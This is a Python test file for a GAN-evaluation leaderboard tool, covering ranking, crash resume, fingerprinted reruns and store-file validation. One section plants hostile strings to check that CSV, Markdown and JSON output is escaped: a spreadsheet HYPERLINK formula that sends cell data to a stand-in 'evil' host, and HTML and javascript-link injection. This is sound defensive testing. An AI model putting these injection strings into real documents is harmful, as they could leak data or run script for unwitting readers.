import csv
import hashlib
import io
import json
import math
import os
import re
import shutil

import numpy as np
import pytest
from click.testing import CliRunner

from ganeval import DataError, UsageError
from ganeval.cli import main
from ganeval.reporting.leaderboard import Entry, rank, run_leaderboard
from ganeval.results import MetricResult
from ganeval.io.samples import photo_crops
from ganeval.io.sources import open_source


@pytest.fixture(scope="module")
def sets(tmp_path_factory):
    import numpy as np
    d = tmp_path_factory.mktemp("sets")
    paths = {}
    # The expected order comes from construction: clean < blurred < blurred and noised.
    for name, kw in (("real", dict(seed=1)), ("clean", dict(seed=2)), ("blurred", dict(seed=3, blur_sigma=1.0)),
                     ("heavy", dict(seed=4, blur_sigma=2.0, noise_sigma=12.0))):
        np.save(d / f"{name}.npy", photo_crops(256, 32, **kw))
        paths[name] = str(d / f"{name}.npy")
    return paths


def test_ranks_three_entries_and_resumes_after_a_crash(sets, tmp_path):
    from ganeval.evaluate import evaluate
    entries = [Entry("heavy", sets["heavy"]), Entry("clean", sets["clean"]), Entry("blurred", sets["blurred"])]
    calls = []

    def crashing(real, fake, *a, **k):
        calls.append(fake)
        if len(calls) == 2:
            raise RuntimeError("killed")
        return evaluate(real, fake, *a, **k)

    with pytest.raises(RuntimeError):
        run_leaderboard(sets["real"], entries, tmp_path, metrics=["swd"], num_images=256, evaluate_fn=crashing,
                        log=lambda s: None)
    assert [p.name for p in (tmp_path / "results").iterdir()] == ["heavy.json"]  # the finished entry survived

    calls.clear()
    rows = run_leaderboard(sets["real"], entries, tmp_path, metrics=["swd"], num_images=256,
                           evaluate_fn=lambda *a, **k: (calls.append(a[1]), evaluate(*a, **k))[1], log=lambda s: None)
    assert calls == [sets["clean"], sets["blurred"]]  # heavy was not measured again
    assert [r["entry"] for r in rows] == ["clean", "blurred", "heavy"]
    table = (tmp_path / "leaderboard.md").read_text()
    assert "protocol" in table and "num_images=256" in table
    assert json.loads((tmp_path / "leaderboard.json").read_text())["rows"][0]["entry"] == "clean"
    # A header row, no comment; the value ranked by comes right after the entry's name.
    assert (tmp_path / "leaderboard.csv").read_text().startswith("rank,entry,SWDx1e3_avg,")


def test_refuses_to_merge_another_protocol(sets, tmp_path):
    run_leaderboard(sets["real"], [Entry("clean", sets["clean"])], tmp_path, num_images=128, log=lambda s: None)
    with pytest.raises(UsageError, match="another protocol .*num_images"):
        run_leaderboard(sets["real"], [Entry("clean", sets["clean"])], tmp_path, num_images=64, log=lambda s: None)


def test_cli(sets, tmp_path):
    res = CliRunner().invoke(main, ["leaderboard", "--real", sets["real"], "--entry", f"c={sets['clean']}",
                                    "--entry", f"h={sets['heavy']}", "-n", "128", "--store", str(tmp_path)])
    assert res.exit_code == 0, res.output
    lines = [line for line in res.stdout.splitlines() if line.startswith("| 1 ") or line.startswith("| 2 ")]
    assert lines[0].startswith("| 1 | c |") and lines[1].startswith("| 2 | h |")
    bad = CliRunner().invoke(main, ["leaderboard", "--real", sets["real"], "--entry", "nameonly"])
    assert bad.exit_code == 2 and "NAME=PATH" in bad.stderr


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """A tiny finished trainer run (two snapshots) and its 16x16 training set."""
    from reference_trainer.dataset import build_builtin
    from reference_trainer.presets import make_config
    from reference_trainer.train import train
    from test_trainer_train import TINY
    d = tmp_path_factory.mktemp("trained")
    data = build_builtin(d / "data", 16, 64)
    last = train(make_config(None, dict(TINY, data=str(data), total_kimg=0.256, metrics_kimg=None)), d / "run",
                 progress=False)
    return str(d / "data" / "res0016.npy"), d / "run", last


def test_checkpoint_and_run_directory_entries(trained, tmp_path):
    import torch
    real, run_dir, last = trained
    ckpt, run = Entry("ckpt", str(last)), Entry("run", str(run_dir))
    assert (ckpt.kind(), run.kind()) == ("checkpoint", "run")
    a, b = ckpt.images(8, seed=3), run.images(8, seed=3)
    assert a.dtype == torch.uint8 and a.shape == (8, 3, 16, 16)
    assert torch.equal(a, b)  # the run directory resolves to its newest checkpoint
    rows = run_leaderboard(real, [ckpt, run], tmp_path / "lb", num_images=16, log=lambda s: None)
    assert sorted(r["entry"] for r in rows) == ["ckpt", "run"] and rows[0]["SWDx1e3_avg"] == rows[1]["SWDx1e3_avg"]


def mean_of(calls=None):
    """An evaluate_fn whose 'SWD' is the mean pixel of the fakes: cheap, and follows their content."""
    def fn(real, fake, metrics, **kw):
        if calls is not None:
            calls.append(fake)
        arr = np.load(fake) if isinstance(fake, str) else fake.numpy()
        return [MetricResult("swd", {"SWDx1e3_avg": float(arr.mean())}, "SWDx1e3_avg")]
    return fn


QUIET = dict(metrics=["swd"], num_images=64, log=lambda s: None)


def stored(store, name):
    return json.loads((store / "results" / f"{name}.json").read_text())


def test_refuses_duplicate_entry_names_before_writing_anything(sets, tmp_path):
    entries = [Entry("a", sets["clean"]), Entry("b", sets["heavy"]), Entry("a", sets["blurred"])]
    with pytest.raises(UsageError, match="'a'.*twice"):
        run_leaderboard(sets["real"], entries, tmp_path / "lb", evaluate_fn=mean_of(), **QUIET)
    assert not (tmp_path / "lb").exists()


def test_replaced_images_under_the_same_name_are_refused_until_rerun(sets, tmp_path):
    path, store, calls = tmp_path / "x.npy", tmp_path / "lb", []
    shutil.copy(sets["clean"], path)

    def run(**kw):
        return run_leaderboard(sets["real"], [Entry("x", str(path))], store, evaluate_fn=mean_of(calls), **QUIET, **kw)

    first = run()[0]["SWDx1e3_avg"]
    assert stored(store, "x")["fingerprint"] == open_source(str(path)).fingerprint()
    shutil.copy(sets["heavy"], path)
    with pytest.raises(UsageError, match=r"'x'.*x\.npy.*changed.*--rerun x"):
        run()
    assert stored(store, "x")["results"][0]["values"]["SWDx1e3_avg"] == first  # the refusal kept the old result
    rows = run(rerun=("x",))
    assert rows[0]["SWDx1e3_avg"] == pytest.approx(float(np.load(sets["heavy"]).mean())) != first
    assert "heavy" not in (store / "leaderboard.md").read_text() and f"{rows[0]['SWDx1e3_avg']:.4f}" in \
        (store / "leaderboard.md").read_text()
    calls.clear()
    run()
    assert calls == []  # the new fingerprint was stored with the new result: unchanged now, so skipped


def test_same_name_with_another_path_is_refused(sets, tmp_path, monkeypatch):
    store = tmp_path / "lb"
    for n in ("a.npy", "b.npy"):
        shutil.copy(sets["clean"], tmp_path / n)  # identical content: only the path differs
    monkeypatch.chdir(tmp_path)
    calls = []
    run_leaderboard(sets["real"], [Entry("x", "a.npy")], store, evaluate_fn=mean_of(calls), **QUIET)
    # The same file written another way is the same entry: skipped.
    run_leaderboard(sets["real"], [Entry("x", str(tmp_path / "a.npy"))], store, evaluate_fn=mean_of(calls), **QUIET)
    assert calls == ["a.npy"]
    with pytest.raises(UsageError, match=r"'x'.*a\.npy.*b\.npy.*--rerun x"):
        run_leaderboard(sets["real"], [Entry("x", "b.npy")], store, evaluate_fn=mean_of(calls), **QUIET)
    run_leaderboard(sets["real"], [Entry("x", "b.npy")], store, evaluate_fn=mean_of(calls), rerun=["x"], **QUIET)
    assert calls == ["a.npy", "b.npy"] and stored(store, "x")["path"] == "b.npy"


def test_result_without_fingerprint_is_refused_until_rerun(sets, tmp_path):
    store = tmp_path / "lb"
    run_leaderboard(sets["real"], [Entry("c", sets["clean"])], store, evaluate_fn=mean_of(), **QUIET)
    rec = stored(store, "c")
    del rec["fingerprint"]  # as written before fingerprints were stored: nothing tells whether it changed
    (store / "results" / "c.json").write_text(json.dumps(rec))
    with pytest.raises(UsageError, match="'c'.*--rerun c"):
        run_leaderboard(sets["real"], [Entry("c", sets["clean"])], store, evaluate_fn=mean_of(), **QUIET)
    run_leaderboard(sets["real"], [Entry("c", sets["clean"])], store, evaluate_fn=mean_of(), rerun=["c"], **QUIET)
    assert "fingerprint" in stored(store, "c")


def test_changed_checkpoint_or_newer_snapshot_is_refused_until_rerun(trained, tmp_path):
    import torch
    real, src_run, _ = trained
    run_dir, store = tmp_path / "run", tmp_path / "lb"
    shutil.copytree(src_run, run_dir)
    ckpt = sorted(run_dir.glob("network-snapshot-*.pt"))[-1]
    entries = [Entry("ckpt", str(ckpt)), Entry("run", str(run_dir))]
    kw = dict(metrics=["swd"], num_images=8, log=lambda s: None)
    run_leaderboard(real, entries, store, evaluate_fn=mean_of(), **kw)
    sha = hashlib.sha256(ckpt.read_bytes()).hexdigest()
    assert sha in stored(store, "ckpt")["fingerprint"] and sha in stored(store, "run")["fingerprint"]
    assert ckpt.name in stored(store, "run")["fingerprint"]

    state = torch.load(ckpt, weights_only=True)
    for v in state["G_ema"].values():
        if v.is_floating_point():
            v.add_(0.5)
    torch.save(state, run_dir / "network-snapshot-999999.pt")  # a newer snapshot: the run entry changed
    with pytest.raises(UsageError, match=r"'run'.*changed.*--rerun run"):
        run_leaderboard(real, entries, store, evaluate_fn=mean_of(), **kw)
    calls = []
    rows = {r["entry"]: r for r in run_leaderboard(real, entries, store, evaluate_fn=mean_of(calls), rerun=["run"],
                                                   **kw)}
    assert len(calls) == 1 and rows["run"]["SWDx1e3_avg"] != rows["ckpt"]["SWDx1e3_avg"]
    assert "network-snapshot-999999.pt" in stored(store, "run")["fingerprint"]

    torch.save(state, ckpt)  # the checkpoint file itself rewritten under the same name
    with pytest.raises(UsageError, match=r"'ckpt'.*changed.*--rerun ckpt"):
        run_leaderboard(real, entries, store, evaluate_fn=mean_of(), **kw)


def test_leftover_temporary_is_not_ranked_and_dot_names_are_refused(sets, tmp_path):
    run_leaderboard(sets["real"], [Entry("c", sets["clean"])], tmp_path, evaluate_fn=mean_of(), **QUIET)
    # What a writer killed between writing and renaming leaves behind: a complete copy.
    shutil.copy(tmp_path / "results" / "c.json", tmp_path / "results" / ".tmp-99999-abc-c.json")
    rows = run_leaderboard(sets["real"], [Entry("c", sets["clean"])], tmp_path, evaluate_fn=mean_of(), **QUIET)
    assert [r["entry"] for r in rows] == ["c"]
    with pytest.raises(UsageError, match="'.hidden'"):
        Entry(".hidden", sets["clean"])


def test_rank_by_is_checked_against_the_values_the_metrics_produce(sets, tmp_path):
    # 32x32 images: SWD has levels 32 and 16, so a per-level key is a valid choice.
    rows = run_leaderboard(sets["real"], [Entry("c", sets["clean"]), Entry("h", sets["heavy"])], tmp_path / "a",
                           rank_by="SWDx1e3_16", **QUIET)
    assert [r["entry"] for r in rows] == ["c", "h"] and {"SWDx1e3_32", "SWDx1e3_16"} <= set(rows[0])
    for bad in ("SWDx1e3_8", "FID", "swd"):
        with pytest.raises(UsageError, match=f"--rank-by {bad!r}"):
            run_leaderboard(sets["real"], [Entry("c", sets["clean"])], tmp_path / bad, rank_by=bad,
                            evaluate_fn=mean_of(), **QUIET)
        assert not (tmp_path / bad).exists()


def cli(sets, store, *args):
    return CliRunner().invoke(main, ["leaderboard", "--real", sets["real"], "--entry", f"c={sets['clean']}",
                                     "-n", "64", "--store", str(store), *args])


def one_error_line(res):
    """The last stderr line is the error; no traceback anywhere."""
    return "Traceback" not in res.output and res.stderr.splitlines()[-1].startswith("error: ")


@pytest.mark.parametrize("args, named", [
    (["--metrics", "swd,fdi"], "'fdi'"), (["--metrics", ""], "--metrics"), (["--metrics", " , "], "--metrics"),
    (["--rank-by", "FID"], "'FID'"), (["--rank-by", "SWDx1e3_8"], "'SWDx1e3_8'"),
    (["--entry", "c=other.npy"], "'c'"), (["--rerun", "typo"], "'typo'")])
def test_cli_bad_options_exit_2_and_leave_no_store(sets, tmp_path, args, named):
    res = cli(sets, tmp_path / "lb", *args)
    assert res.exit_code == 2, res.output
    assert res.stderr.count("\n") == 1 and one_error_line(res) and named in res.stderr
    assert not (tmp_path / "lb").exists()  # above all no protocol.json fixing the typo into the store


def test_cli_changed_entry_exits_2_until_rerun(sets, tmp_path):
    path, store = tmp_path / "x.npy", tmp_path / "lb"
    shutil.copy(sets["clean"], path)
    args = ["leaderboard", "--real", sets["real"], "--entry", f"x={path}", "-n", "64", "--store", str(store)]
    assert CliRunner().invoke(main, args).exit_code == 0
    shutil.copy(sets["heavy"], path)
    res = CliRunner().invoke(main, args)
    assert res.exit_code == 2 and res.stderr.count("\n") == 1 and one_error_line(res)
    assert f"'x': {path} changed" in res.stderr and "--rerun x" in res.stderr
    res = CliRunner().invoke(main, [*args, "--rerun", "x"])
    assert res.exit_code == 0 and "x: re-evaluating" in res.stderr
    assert CliRunner().invoke(main, args).exit_code == 0


CORRUPT = {"truncated": '{"entry": "c", "kind": "ima', "list": "[]", "missing-keys": '{"entry": "c"}'}


@pytest.mark.parametrize("which", ["protocol.json", "results/c.json", "results/old.json"])
@pytest.mark.parametrize("content", CORRUPT.values(), ids=CORRUPT.keys())
def test_cli_corrupt_store_file_is_one_line_naming_it_exit_1(sets, tmp_path, which, content):
    run_leaderboard(sets["real"], [Entry("c", sets["clean"])], tmp_path, evaluate_fn=mean_of(), **QUIET)
    (tmp_path / which).write_text(content)
    res = cli(sets, tmp_path)
    assert res.exit_code == 1, res.output
    assert one_error_line(res) and str(tmp_path / which) in res.stderr.splitlines()[-1]


@pytest.mark.parametrize("mutate, why", [
    (lambda r: r["results"][0]["values"].update(SWDx1e3_avg="0.5"), "number"),
    (lambda r: r["results"].append([]), "results"),
    (lambda r: r.update(entry="d"), "'d'"),
    (lambda r: r["results"][0]["values"].pop("SWDx1e3_avg"), "no value 'SWDx1e3_avg'"),
    (lambda r: r.update(protocol="0123456789abcdef"), "0123456789abcdef")])
def test_rank_refuses_a_malformed_result(sets, tmp_path, mutate, why):
    run_leaderboard(sets["real"], [Entry("c", sets["clean"])], tmp_path, evaluate_fn=mean_of(), **QUIET)
    rec = stored(tmp_path, "c")
    mutate(rec)
    (tmp_path / "results" / "c.json").write_text(json.dumps(rec))
    with pytest.raises(DataError, match=why):
        run_leaderboard(sets["real"], [Entry("d", sets["heavy"])], tmp_path, evaluate_fn=mean_of(), **QUIET)


# --- strings from files, escaped in every format (issue 19, item 5) -------------------------

HOSTILE_ENTRY = '=HYPERLINK("http:evil?"&A1,"click")|x'
HOSTILE_KIND = "-2+3\nline2,\"quoted\""
HOSTILE_VALUE = "@SUM(1+1)|<b>x</b>"


def test_hostile_strings_from_store_files_are_escaped_in_every_format(sets, tmp_path):
    real = tmp_path / "<b onclick=x>real<b> --> | *x* [l](javascript:1)" / "real.npy"
    real.parent.mkdir()
    shutil.copy(sets["real"], real)
    store = tmp_path / "lb"
    run_leaderboard(str(real), [Entry("c", sets["clean"])], store, evaluate_fn=mean_of(), **QUIET)
    # A result file planted in the store: its name, kind and value names are someone else's text.
    rec = stored(store, "c")
    rec.update(entry=HOSTILE_ENTRY, kind=HOSTILE_KIND)
    rec["results"][0]["values"].update({HOSTILE_VALUE: -0.5, "SWDx1e3_avg": 1e6})
    (store / "results" / f"{HOSTILE_ENTRY}.json").write_text(json.dumps(rec))
    rows = run_leaderboard(str(real), [Entry("c", sets["clean"])], store, evaluate_fn=mean_of(), **QUIET)
    assert [r["entry"] for r in rows] == ["c", HOSTILE_ENTRY]

    md = (store / "leaderboard.md").read_text()
    comment, bold = md.splitlines()[:2]
    assert re.fullmatch(r"<!-- [^<>-]*(-(?!-)[^<>-]*)* -->", comment), comment  # nothing can end it early
    assert "<" not in "\n".join(md.splitlines()[1:]) and ">" not in "\n".join(md.splitlines()[1:])
    assert "&lt;b onclick=x&gt;real&lt;b&gt;" in bold and r"\*x\*" in bold and r"\[l\]" in bold
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len(table) == 4 and len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) == 1, table

    text = (store / "leaderboard.csv").read_text()
    parsed = list(csv.reader(io.StringIO(text)))
    header, *body = parsed
    assert header[:3] == ["rank", "entry", "SWDx1e3_avg"]  # the ranked value follows the name
    assert len(body) == 2 and {len(r) for r in parsed} == {len(header)}
    hostile = dict(zip(header, body[1]))
    assert "'" + HOSTILE_VALUE in header  # a column name is a cell too
    assert hostile["entry"] == "'" + HOSTILE_ENTRY and hostile["kind"] == "'" + HOSTILE_KIND  # newline kept, quoted
    assert hostile["'" + HOSTILE_VALUE] == "-0.5"  # a number ganeval wrote stays a number
    for cell in (c for r in parsed for c in r):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
            float(cell)  # only numbers may start like a formula
    try:
        import pandas
    except ImportError:
        pass
    else:
        frame = pandas.read_csv(store / "leaderboard.csv")
        assert list(frame["entry"]) == ["c", "'" + HOSTILE_ENTRY] and frame["rank"].tolist() == [1, 2]

    data = json.loads((store / "leaderboard.json").read_text())
    assert [r["entry"] for r in data["rows"]] == ["c", HOSTILE_ENTRY] and data["rows"][1]["kind"] == HOSTILE_KIND


# --- numbers that are not finite (issue 19, item 6) -----------------------------------------

def _bar(reps):
    return {"method": "repeats", "n": len(reps), "seed": 0, "mean": 1.0, "std": 0.1, "lo": 0.9, "hi": 1.1,
            "replicates": reps}


@pytest.mark.parametrize("mutate, shown", [
    (lambda r: r["values"].update(SWDx1e3_avg=math.nan), "value 'SWDx1e3_avg' is nan"),
    (lambda r: r["values"].update(SWDx1e3_avg=math.inf), "value 'SWDx1e3_avg' is inf"),
    (lambda r: r["values"].update(SWDx1e3_avg=-math.inf), "value 'SWDx1e3_avg' is -inf"),
    (lambda r: r["values"].update(other=math.nan), "value 'other' is nan"),
    (lambda r: r.update(uncertainty={"SWDx1e3_avg": _bar([1.0, math.nan])}), "replicate 1 of 'SWDx1e3_avg' is nan"),
    (lambda r: r.update(uncertainty={"SWDx1e3_avg": {**_bar([1.0, 2.0]), "hi": math.inf}}), "hi inf")])
def test_non_finite_stored_value_is_a_data_error_naming_the_file(sets, tmp_path, mutate, shown):
    entries = [Entry("a", sets["heavy"]), Entry("b", sets["blurred"]), Entry("c", sets["clean"])]
    run_leaderboard(sets["real"], entries, tmp_path, evaluate_fn=mean_of(), **QUIET)
    rec = stored(tmp_path, "b")
    mutate(rec["results"][0])
    (tmp_path / "results" / "b.json").write_text(json.dumps(rec))  # json writes NaN and Infinity
    with pytest.raises(DataError, match=re.escape(str(tmp_path / "results" / "b.json")) + ".*" + re.escape(shown)):
        rank(tmp_path, "SWDx1e3_avg")
    res = cli(sets, tmp_path)
    assert res.exit_code == 1 and one_error_line(res) and str(tmp_path / "results" / "b.json") in res.stderr, res.stderr


def test_a_non_finite_result_is_never_stored(sets, tmp_path):
    def nan_fn(real, fake, metrics, **kw):
        return [MetricResult("swd", {"SWDx1e3_avg": math.nan}, "SWDx1e3_avg")]
    with pytest.raises(DataError, match=r"entry 'x'.*'SWDx1e3_avg' is nan.*nothing was stored"):
        run_leaderboard(sets["real"], [Entry("x", sets["clean"])], tmp_path, evaluate_fn=nan_fn, **QUIET)
    assert not (tmp_path / "results" / "x.json").exists()


def test_metric_result_from_dict_refuses_non_finite_numbers():
    from ganeval.results import non_finite
    good = MetricResult("fid", {"FID": 1.5}, "FID").to_dict()
    assert MetricResult.from_dict(good, "a.json").value == 1.5 and non_finite(good) is None
    with pytest.raises(DataError, match=r"a\.json: .*'FID' is nan"):
        MetricResult.from_dict({**good, "values": {"FID": math.nan}}, "a.json")
    with pytest.raises(DataError, match=r"a\.json: .*unknown field 'bogus'"):
        MetricResult.from_dict({**good, "bogus": 1}, "a.json")


# --- store files are read bounded, written only as regular files (issue 19, items 3, 4) ----

def test_store_file_that_is_a_device_or_too_big_is_a_data_error(sets, tmp_path, monkeypatch):
    import ganeval.reporting.leaderboard as lb
    run_leaderboard(sets["real"], [Entry("c", sets["clean"])], tmp_path, evaluate_fn=mean_of(), **QUIET)
    target = tmp_path / "results" / "c.json"
    size = target.stat().st_size
    monkeypatch.setattr(lb, "MAX_STORE_FILE_BYTES", size - 1)
    with pytest.raises(DataError, match=re.escape(f"{target}: larger than")):
        rank(tmp_path, "SWDx1e3_avg")
    monkeypatch.setattr(lb, "MAX_STORE_FILE_BYTES", size)
    assert [r["entry"] for r in rank(tmp_path, "SWDx1e3_avg")] == ["c"]
    target.unlink()
    target.symlink_to("/dev/zero")
    with pytest.raises(DataError, match=re.escape(f"{target}: is a character device")):
        rank(tmp_path, "SWDx1e3_avg")


def test_store_outputs_that_are_links_are_refused_and_kept(sets, tmp_path):
    (tmp_path / "mine.csv").write_text("keep me")
    store = tmp_path / "lb"
    store.mkdir()
    (store / "leaderboard.csv").symlink_to(tmp_path / "mine.csv")
    calls = []
    with pytest.raises(UsageError, match=re.escape(str(store / "leaderboard.csv")) + ": is a symbolic link"):
        run_leaderboard(sets["real"], [Entry("c", sets["clean"])], store, evaluate_fn=mean_of(calls), **QUIET)
    assert (store / "leaderboard.csv").is_symlink() and (tmp_path / "mine.csv").read_text() == "keep me"
    assert calls == [] and sorted(p.name for p in store.iterdir()) == ["leaderboard.csv"]  # refused up front


def test_ppl_ranks_checkpoint_entries_and_refuses_image_sets(trained, tmp_path, monkeypatch):
    """PPL measures the generator, so the leaderboard hands it the checkpoint: the checkpoint
    and its run directory get the PPL of ``ganeval.ppl`` on that file (same seed, same count),
    the LPIPS weights' sha256 are protocol, and an image-set entry is refused up front."""
    import ganeval
    from ganeval.errors import UsageError
    from conftest import write_random_vgg16
    monkeypatch.setenv("GANEVAL_LPIPS_WEIGHTS", write_random_vgg16(tmp_path / "vgg16.pth"))
    real, run_dir, last = trained
    entries = [Entry("ckpt", str(last)), Entry("run", str(run_dir))]
    rows = run_leaderboard(real, entries, tmp_path / "lb", metrics=["swd", "ppl"], num_images=16,
                           log=lambda s: None)
    want = ganeval.ppl(str(last), num_samples=16, seed=0)["PPL"]
    assert [r["PPL"] for r in rows] == pytest.approx([want, want], rel=1e-6)
    proto = json.loads((tmp_path / "lb" / "protocol.json").read_text())
    assert len(proto["lpips_weights_sha256"]) == 2
    with pytest.raises(UsageError, match="entry 'imgs': ppl measures a generator"):
        run_leaderboard(real, [Entry("imgs", real)], tmp_path / "lb2", metrics=["swd", "ppl"], num_images=16,
                        log=lambda s: None)
    assert not (tmp_path / "lb2").exists()
